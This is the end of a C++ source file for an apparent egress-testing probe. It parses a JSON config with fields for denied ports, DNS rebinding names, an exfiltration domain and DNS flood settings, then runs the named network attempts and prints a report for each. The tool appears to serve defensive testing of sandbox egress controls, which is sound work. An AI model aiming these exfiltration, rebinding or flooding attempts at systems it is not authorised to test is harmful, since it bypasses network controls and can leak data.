                     std::string target = HostPort(name, c.upstream_port);
                     ProxyExchange(c, r, Get("http://" + target + "/", target));
                   }});
  }
  return all;
}

Config Parse(const json& j) {
  Config c;
  c.secret = j.value("secret", "");
  c.host_addr = j.value("host_addr", "");
  c.host_addr6 = j.value("host_addr6", "");
  c.upstream_port = j.value("upstream_port", 0);
  c.denied_port = j.value("denied_port", 0);
  c.udp_port = j.value("udp_port", 0);
  c.allowed_name = j.value("allowed_name", c.allowed_name);
  c.denied_name = j.value("denied_name", c.denied_name);
  c.denied_name_port = j.value("denied_name_port", c.upstream_port);
  c.proxy_port = j.value("proxy_port", c.proxy_port);
  c.rebind_names = j.value("rebind_names", std::vector<std::string>{});
  c.exfil_domain = j.value("exfil_domain", c.exfil_domain);
  c.flood_count = j.value("flood_count", c.flood_count);
  c.flood_name_bytes = j.value("flood_name_bytes", c.flood_name_bytes);
  return c;
}

}  // namespace

int main(int argc, char** argv) {
  signal(SIGPIPE, SIG_IGN);
  if (argc != 2) {
    std::fprintf(stderr, "usage: egress_probe CONFIG_JSON (see the comment at the top of egress_probe.cc)\n");
    return 2;
  }
  json j = json::parse(argv[1], nullptr, false);
  if (j.is_discarded() || !j.is_object()) {
    std::fprintf(stderr, "egress_probe: the argument is not a JSON object\n");
    return 2;
  }
  Config cfg = Parse(j);
  std::vector<std::string> only = j.value("attempts", std::vector<std::string>{});
  auto all = Attempts(cfg);
  for (const auto& name : only) {
    bool known = false;
    for (const auto& [n, fn] : all) known = known || n == name;
    if (!known) {
      std::fprintf(stderr, "egress_probe: unknown attempt %s\n", name.c_str());
      return 2;
    }
  }
  for (const auto& [name, fn] : all) {
    if (only.empty() && name.rfind("flood_", 0) == 0) continue;  // floods run only when named
    if (!only.empty()) {
      bool wanted = false;
      for (const auto& o : only) wanted = wanted || o == name;
      if (!wanted) continue;
    }
    Report r(name);
    fn(cfg, &r);
    std::cout << r.j.dump(-1, ' ', false, json::error_handler_t::replace) << std::endl;
  }
  return 0;
}
